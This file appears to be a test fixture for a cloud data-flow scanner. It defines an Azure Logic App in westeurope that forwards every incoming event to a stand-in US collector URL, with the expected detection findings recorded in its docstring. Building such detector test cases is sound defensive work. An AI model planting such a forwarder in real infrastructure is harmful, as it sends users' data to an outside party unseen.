"""A Logic App triggered by the event topic that POSTs each event to an outside URL.

Attack: the workflow is in westeurope; its `definition` (free-form JSON) holds an HTTP action
whose `uri` is a collector in the US. Only value-based flow detection (every URL in the
inputs must be placed) sees it.

Class: services next to the platform
Issue: 12 services (Logic App POSTing outside)
Blame: forwarder
Mentions: collector.us-analytics.example.com
"""

from pulumi_azure_native import logic

logic.Workflow(
    "forwarder",
    resource_group_name="rg-logic",
    location="westeurope",
    state="Enabled",
    definition={
        "$schema": "https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#",
        "contentVersion": "1.0.0.0",
        "triggers": {"manual": {"type": "Request", "kind": "Http", "inputs": {"schema": {}}}},
        "actions": {
            "forward": {
                "type": "Http",
                "inputs": {
                    "method": "POST",
                    "uri": "https://collector.us-analytics.example.com/ingest",
                    "body": "@triggerBody()",
                },
                "runAfter": {},
            },
        },
    },
)
